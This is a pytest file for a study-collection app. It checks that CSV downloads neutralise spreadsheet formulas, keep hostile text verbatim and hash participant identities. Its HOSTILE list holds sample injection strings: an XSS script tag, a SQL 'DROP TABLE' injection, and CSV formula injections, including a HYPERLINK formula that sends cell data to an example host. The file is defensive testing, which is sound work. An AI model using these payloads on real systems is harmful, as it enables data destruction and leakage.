"""Tables for download: hostile texts, hashed identities, and reading the database."""

import csv
import io
import re
import sqlite3
from collections.abc import Mapping
from contextlib import closing
from functools import partial
from pathlib import Path

import pytest

from contstim.errors import StoreError
from contstim.experiments.collection.database import Recorder
from contstim.experiments.collection.tables import PLATFORM, collected_responses
from contstim.experiments.responses.table import read_responses
from contstim.testing.platform import PlantedAnswers, ReadContract
from tests.experiments.collection.conftest import NONCE, Serve, Served
from tests.experiments.collection.servers import answer, small_study, write_study

HOSTILE = (
    "<script>alert(1)</script>",
    "\"'`,;\n\r\t'",
    "Robert'); DROP TABLE response;--",
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "'=1+1",
    "'quoted'",
    "＝１＋１",
    "\t=1+1",
    "x" * 10_000,
    "נִקּוּד 🙂 \u202e",
    "NUL \0 inside",
)
FORMULA = re.compile("[=+\\-@\t\r\n＝＋－＠]")


def read_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_hostile_trials_are_saved_and_read_as_text(serve: Serve, tmp_path: Path) -> None:
    trials = [{"trial_id": text, "sentence_1": text, "sentence_2": text} for text in HOSTILE]
    served = serve(write_study(tmp_path / "nasty", {"1": trials}, title=HOSTILE[0]))
    joined = served.join()
    for position, text in enumerate(HOSTILE, start=1):
        assert served.save(joined, answer(text, position=position)).json() == {"saved": [text]}
    assert served.complete(joined).status_code == 200
    reply = served.download("responses")
    assert reply.headers["content-type"].startswith("text/csv")
    assert reply.headers["content-disposition"] == 'attachment; filename="responses.csv"'
    assert reply.headers["x-content-type-options"] == "nosniff"
    rows = read_rows(reply.text)
    assert len(rows) == 1 + len(HOSTILE)
    assert not [cell for row in rows for cell in row if FORMULA.match(cell)]
    (tmp_path / "responses.csv").write_bytes(reply.content)
    responses = read_responses(tmp_path / "responses.csv")
    assert [response.trial_id for response in responses] == list(HOSTILE)
    assert responses == collected_responses(served.database)
    study_reply = served.http.get("/study.json")
    assert study_reply.headers["content-type"] == "application/json"
    assert [trial["sentence_1"] for trial in study_reply.json()["groups"]["1"]] == list(HOSTILE)


def test_hostile_identities_are_saved_as_hashes(served: Served) -> None:
    for text in HOSTILE:
        platform = {"PROLIFIC_PID": text, "STUDY_ID": text, "SESSION_ID": text}
        joined = served.join(platform=platform, nonce=NONCE)
        assert served.refusal_status(platform=platform) == 403
        assert served.join(platform=platform, nonce=NONCE)["participant"] == joined["participant"]
        for reply in (
            served.http.post("/api/participants", json={"group": text}),
            served.http.post("/api/resume", json={"participant": text, "secret": text}),
        ):
            assert reply.status_code in (403, 422)
            assert reply.headers["content-type"] == "application/json"
    table = served.download("participants").text
    rows = read_rows(table)
    assert len(rows) == 1 + len(HOSTILE)
    assert not [cell for row in rows for cell in row if FORMULA.match(cell)]
    for row in rows[1:]:
        assert all(re.fullmatch("[0-9a-f]{32}", cell) for cell in row[-3:])
    assert not [
        text for text in HOSTILE if text in table or text in served.download("responses").text
    ]


@pytest.mark.parametrize("identities", ["hashed", "plain"])
def test_identities_are_hashed_or_plain(serve: Serve, tmp_path: Path, identities: str) -> None:
    """Only fields that the study names are stored; those of a visit identify no one."""
    fields = ["sona_id", "workerId", "assignmentId", "lab"]
    served = serve(small_study(tmp_path / "study", identify=fields, identities=identities))
    sona, worker = {"sona_id": "17"}, {"workerId": "=A1", "assignmentId": "x"}
    join = partial(served.join, nonce=NONCE)
    first = join(platform={**sona, "lab": "", "email": "ann@example.org"})["participant"]
    second = join(platform=worker)["participant"]
    assert join(platform=sona)["participant"] == first
    assert join(platform={**worker, "assignmentId": "y"})["participant"] == second
    assert served.join(platform={**sona, "lab": "2"})["participant"] not in (first, second)
    text = served.download("participants").text
    first_row, second_row, third_row = csv.DictReader(io.StringIO(text))
    assert "ann@" not in text
    assert b"ann@" not in Path(f"{served.database}-wal").read_bytes()
    if identities == "plain":
        assert (first_row["sona_id_plain"], first_row["workerid_plain"]) == ("17", "")
        assert (second_row["workerid_plain"], second_row["assignmentid_plain"]) == ("'=A1", "x")
    else:
        assert not {"17", "=A1", "x"} & {*first_row.values(), *second_row.values()} - {""}
        assert first_row["sona_id_hash"] == third_row["sona_id_hash"] != ""
    assert [row["number"] for row in (first_row, second_row, third_row)] == ["1", "2", "3"]


def test_database_with_another_layout_raises_error(served: Served) -> None:
    joined = served.join(group="1")
    with closing(sqlite3.connect(served.database)) as connection:
        connection.execute("PRAGMA user_version = 2")
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    content = served.database.read_bytes()
    for open_database in (collected_responses, lambda path: Recorder(path, "f")):
        with pytest.raises(StoreError, match=r"its layout is 2, but this version needs \d"):
            open_database(served.database)
    assert served.database.read_bytes() == content
    assert joined["participant"].encode() in content


class TestContract(ReadContract):
    platform = PLATFORM

    def data(
        self, folder: Path, out: Path, answers: PlantedAnswers, people: Mapping[str, str]
    ) -> list[Path]:
        path = out / "study.sqlite"
        Recorder(path, "fingerprint").close()
        lists = self.lists(folder)
        with closing(sqlite3.connect(path)) as connection:
            for number, (name, group) in enumerate(people.items(), start=1):
                connection.execute(
                    "INSERT INTO participant (number, participant, study_group, seed, joined, seen)"
                    " VALUES (?, ?, ?, 3, 0, 0)",
                    (number, name, group),
                )
                for position, row in enumerate(answers.shuffled(lists[group]), start=1):
                    left = int(row["left"])
                    button, rt_ms = answers.press(name, row["trial_id"], row["left"], position)
                    rating = button if left == 1 else 7 - button
                    answer = (number, row["trial_id"], rating, left, position, rt_ms, 0)
                    placeholders = ", ".join("?" * len(answer))
                    connection.execute(
                        f"INSERT INTO response VALUES ({placeholders}, NULL, NULL, NULL)", answer
                    )
            connection.commit()
        return [path]
